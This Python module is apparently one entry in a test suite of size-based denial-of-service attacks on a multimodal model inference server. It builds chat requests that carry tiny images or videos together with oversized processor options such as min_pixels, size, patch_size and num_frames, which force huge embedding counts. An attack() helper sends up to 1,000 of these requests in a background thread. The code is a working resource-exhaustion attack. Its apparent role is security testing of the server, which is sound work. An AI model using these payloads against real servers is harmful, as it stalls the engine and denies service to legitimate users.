"""A small picture with options that let the model's processor enlarge it: row 10.

A PNG of 3.5 KB with `min_pixels` of 5.5 million became 7,000 embeddings, and the engine stood still
for two minutes. Other options do the same under other names.
"""

from __future__ import annotations

import base64
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import httpx

from attacks.neighbours import make_new_picture, make_picture_part

FLAGS: tuple[str, ...] = ()
# With this flag, such options are taken.
LIFTING_FLAG = "--allow-larger-media"
OPTIONS: tuple[dict[str, Any], ...] = (
    {"min_pixels": 5_500_000, "max_pixels": 6_000_000},
    {"size": {"shortest_edge": 5_500_000, "longest_edge": 6_000_000}},
    {"patch_size": 2},
    {"temporal_patch_size": 64},
)
VIDEO_OPTIONS: tuple[dict[str, Any], ...] = (
    {"mm_processor_kwargs": {"size": {"shortest_edge": 5_500_000, "longest_edge": 6_000_000}}},
    {"mm_processor_kwargs": {"num_frames": 64}},
    {"media_io_kwargs": {"video": {"num_frames": 64}}},
)
_MAX_REQUESTS = 1000
_PAUSE_S = 0.1  # between two requests: these are attacks by size, not by number
_TIMEOUT_S = 300.0


def make_picture_body(options: dict[str, Any]) -> dict[str, Any]:
    """Return a chat with a new picture and these options for the model's processor."""
    part = make_picture_part(make_new_picture())
    return _make_body(part, {"mm_processor_kwargs": options})


def make_video_body(video: bytes, fields: dict[str, Any]) -> dict[str, Any]:
    """Return a chat with this video and these fields next to its messages."""
    url = "data:video/mp4;base64," + base64.b64encode(video).decode()
    return _make_body({"type": "video_url", "video_url": {"url": url}}, fields)


def _make_body(part: dict[str, Any], fields: dict[str, Any]) -> dict[str, Any]:
    content = [part, {"type": "text", "text": "What is this?"}]
    return {"messages": [{"role": "user", "content": content}], "max_tokens": 4, **fields}


def ask(url: str, body: dict[str, Any]) -> httpx.Response:
    """Send one chat to the server at `url`."""
    return httpx.post(url.rstrip("/") + "/v1/chat/completions", json=body, timeout=_TIMEOUT_S)


@contextmanager
def attack(
    url: str, options: tuple[dict[str, Any], ...] = OPTIONS
) -> Iterator[list[httpx.Response]]:
    """Send enlarged pictures one after the other; yield the answers so far."""
    answers: list[httpx.Response] = []
    is_over = threading.Event()

    def run() -> None:
        with httpx.Client(base_url=url, timeout=_TIMEOUT_S) as client:
            for number in range(_MAX_REQUESTS):
                body = make_picture_body(options[number % len(options)])
                answers.append(client.post("/v1/chat/completions", json=body))
                if is_over.wait(_PAUSE_S):
                    return

    thread = threading.Thread(target=run)
    thread.start()
    try:
        yield answers
    finally:
        is_over.set()
        thread.join()
